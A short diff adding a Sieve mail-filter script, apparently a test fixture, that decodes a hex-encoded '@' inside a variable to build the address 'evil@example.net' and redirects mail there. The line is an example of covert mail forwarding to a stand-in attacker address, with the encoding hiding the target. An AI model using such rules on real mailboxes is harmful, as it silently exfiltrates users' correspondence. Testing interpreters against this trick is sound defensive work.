@@ -1,0 +1,3 @@
+require ["encoded-character", "variables"];
+set "x" "evil${hex:40}example.net";
+redirect "${x}";
